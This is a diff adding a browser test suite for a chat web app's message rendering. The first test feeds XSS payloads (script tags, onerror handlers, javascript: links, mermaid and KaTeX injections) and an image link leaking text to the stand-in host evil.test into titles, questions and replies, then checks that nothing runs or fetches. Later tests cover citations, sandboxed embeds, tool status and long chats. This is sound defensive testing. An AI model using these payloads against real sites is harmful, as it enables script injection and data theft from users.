@@ -1,0 +1,187 @@
+import { describe, expect, it } from 'vitest'
+import { hasBrowser } from './browser.ts'
+import { chatDesk, messageField, patient, replied, replies, say, shown } from './chat-desk.ts'
+
+const { app, provider, sitDown } = await chatDesk()
+
+interface Told {
+  title?: string
+  question?: string
+  reply: Record<string, unknown>
+}
+
+const uuid = () => crypto.randomUUID()
+
+const chatOf = ({ title = 'A chat', question = 'Well?', reply }: Told) => {
+  const [userId, replyId] = [uuid(), uuid()]
+  const messages = {
+    [userId]: { id: userId, role: 'user', content: question, parentId: null, childrenIds: [replyId], timestamp: 1 },
+    [replyId]: {
+      ...{ id: replyId, role: 'assistant', content: '', parentId: userId, childrenIds: [], timestamp: 2 },
+      ...{ model: 'swift', modelName: 'swift', done: true },
+      ...reply,
+    },
+  }
+  return { title, models: ['swift'], messages: Object.values(messages), history: { currentId: replyId, messages } }
+}
+
+const opened = async (told: Told) => {
+  const desk = await sitDown()
+  const { status, body, text } = await desk.person.post('/api/v1/chats/new', { chat: chatOf(told) })
+  if (status >= 300) throw new Error(text)
+  await desk.page.goto(`${app.url}/chat/${body.id}`)
+  await messageField(desk.page).waitFor()
+  return { ...desk, chatId: body.id as string }
+}
+
+/** Each would set this, were it ever run. */
+const boom = 'window.pwned=1'
+const attacks = [
+  `<script>${boom}</script>`,
+  `<img src=x onerror="${boom}">`,
+  `<svg onload="${boom}"><a xlink:href="javascript:${boom}"><text y="20">svg</text></a></svg>`,
+  `<iframe srcdoc="<script>parent.${boom}</script>"></iframe>`,
+  `[a link](javascript:${boom}) and [another](data:text/html,<script>${boom}</script>)`,
+  `<a href="javascript:${boom}">raw link</a> <form action="javascript:${boom}"><button>go</button></form>`,
+  `![picture](https://evil.test/leak.png?words) ![two](javascript:${boom})`,
+  `<style>* { display: none }</style><base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test">`,
+  '```mermaid\nflowchart LR\n  A["<img src=x onerror=window.pwned=1>"] --> B\n  click B "javascript:window.pwned=1"\n```',
+  '$$\\href{javascript:window.pwned=1}{x}$$ and $$\\htmlData{a=b}{y}$$',
+].join('\n\n')
+
+describe.runIf(hasBrowser)('what a reply may bring with it', () => {
+  it('runs nothing that content, title, name or question say, and fetches nothing from elsewhere', async () => {
+    const foreign: string[] = []
+    const { page, context } = await opened({
+      title: `<img src=x onerror="${boom}">`,
+      question: attacks,
+      reply: { content: attacks, modelName: `<b onclick="${boom}">bold</b>` },
+    })
+    context.on('request', (request) => {
+      if (/^https?:/.test(request.url()) && new URL(request.url()).origin !== app.url) foreign.push(request.url())
+    })
+    await page.reload()
+    await replied(page)
+    await page.getByRole('img', { name: 'Diagram' }).waitFor()
+    for (const link of await replies(page).getByRole('link').all()) {
+      const [href, rel] = await Promise.all([link.getAttribute('href'), link.getAttribute('rel')])
+      expect(href).toMatch(/^https:\/\//)
+      expect(rel).toContain('noopener')
+    }
+    expect(
+      await replies(page).locator('script, style, base, meta, form, iframe, svg a, [onerror], [onload]').count(),
+    ).toBe(0)
+    expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
+    expect(await page.getByRole('heading', { level: 1 }).textContent()).toContain('<img src=x')
+    expect(foreign).toEqual([])
+  })
+
+  it('numbers its sources, and shows the passage behind a number', async () => {
+    const { page, inspect } = await opened({
+      reply: {
+        content: 'A sheet of A4 has sides in the ratio of one to the root of two [1], as Lichtenberg saw [2]. Not [7].',
+        sources: [
+          {
+            source: { name: 'ISO 216' },
+            document: ['The ratio of the sides is the square root of two.'],
+            metadata: [{}],
+          },
+          {
+            source: { name: 'Letter to Beckmann, 1786', url: 'https://example.test/letter' },
+            document: ['I once gave an exercise to a young Englishman…'],
+            metadata: [{}],
+          },
+        ],
+        files: [{ name: 'sizes.pdf', type: 'file', size: 20_480 }],
+        followUps: ['What about B4?'],
+      },
+    })
+    await page.getByRole('button', { name: 'Source 2: Letter to Beckmann, 1786' }).click()
+    await page.getByText('I once gave an exercise').waitFor()
+    await inspect('chat-sources')
+    expect(await page.getByRole('link', { name: 'example.test' }).getAttribute('rel')).toContain('noopener')
+    await page.keyboard.press('Escape')
+    await shown(page, 'sizes.pdf').waitFor()
+    expect(await page.getByRole('button', { name: /^Source/ }).count()).toBe(2)
+  })
+
+  it('keeps what is embedded out of reach of the page', async () => {
+    const { page } = await opened({
+      reply: { content: 'See:', embeds: [`<p>Inside</p><script>parent.${boom}</script>`] },
+    })
+    const frame = page.locator('iframe')
+    await frame.waitFor()
+    const sandbox = (await frame.getAttribute('sandbox')) ?? ''
+    expect(sandbox).toContain('allow-scripts')
+    expect(sandbox).not.toContain('allow-same-origin')
+    await page.frameLocator('iframe').getByText('Inside').waitFor()
+    expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
+  })
+
+  it('shows what a tool says about its work: in motion until it is done', async () => {
+    const { page, person, chatId } = await opened({ reply: { content: '', done: true } })
+    const chat = await person.get(`/api/v1/chats/${chatId}`)
+    const messageId = chat.body.chat.history.currentId
+    const emit = (data: unknown) =>
+      person.post(`/api/v1/chats/${chatId}/messages/${messageId}/event`, { type: 'status', data })
+    await emit({ description: 'Reading the handbook', done: false })
+    await shown(page, 'Reading the handbook').waitFor()
+    expect(await shown(page, 'Reading the handbook').getAttribute('class')).toContain('shimmer')
+    await emit({ description: 'Read the handbook', done: true })
+    await shown(page, 'Read the handbook').waitFor()
+    expect(await shown(page, 'Read the handbook').getAttribute('class')).not.toContain('shimmer')
+    await person.post(`/api/v1/chats/${chatId}/messages/${messageId}/event`, {
+      ...{ type: 'notification', data: { type: 'success', content: 'The handbook is open.' } },
+    })
+    await page.getByText('The handbook is open.').waitFor()
+  })
+
+  it('stays light with five thousand messages, and follows the end only for who is there', async () => {
+    const desk = await sitDown()
+    const ids = Array.from({ length: 5000 }, uuid)
+    const messages = ids.map((id, place) => ({
+      id,
+      ...(place % 2 === 0 ? { role: 'user' } : { role: 'assistant', model: 'swift', done: true }),
+      content: place % 2 === 0 ? `Question ${place}` : `Answer ${place}. ${'So it goes on. '.repeat(place % 40)}`,
+      parentId: ids[place - 1] ?? null,
+      childrenIds: ids.slice(place + 1, place + 2),
+      timestamp: place,
+    }))
+    const history = {
+      currentId: ids.at(-1),
+      messages: Object.fromEntries(messages.map((message) => [message.id, message])),
+    }
+    const made = await desk.person.post('/api/v1/chats/new', {
+      chat: { title: 'Long', models: ['swift'], messages, history },
+    })
+    expect(made.status).toBeLessThan(300)
+    const { page } = desk
+    await page.goto(`${app.url}/chat/${made.body.id}`)
+    await shown(page, 'Question 4998').waitFor()
+    expect(await page.getByRole('article').count()).toBeLessThan(60)
+
+    const thread = page.getByRole('region', { name: 'Conversation' })
+    await thread.evaluate((element) => element.scrollTo({ top: 0 }))
+    await shown(page, 'Question 0').waitFor()
+    expect(await page.getByRole('article').count()).toBeLessThan(60)
+    const top = await thread.evaluate((element) => element.scrollTop)
+    await desk.person.post(`/api/v1/chats/${made.body.id}`, {
+      chat: {
+        history: {
+          currentId: ids.at(-1),
+          messages: { [String(ids.at(-1))]: { content: 'It grew. '.repeat(400) } },
+        },
+      },
+    })
+    await page.getByRole('button', { name: 'Jump to latest' }).waitFor()
+    expect(await thread.evaluate((element) => element.scrollTop)).toBe(top)
+    await page.getByRole('button', { name: 'Jump to latest' }).click()
+    await shown(page, 'Question 4998').waitFor()
+    provider.script({ text: 'And the last word.' })
+    await say(page, 'One more')
+    await shown(page, 'And the last word.').waitFor()
+    await expect
+      .poll(() => thread.evaluate((it) => it.scrollHeight - it.scrollTop - it.clientHeight), patient)
+      .toBeLessThan(80)
+  })
+})
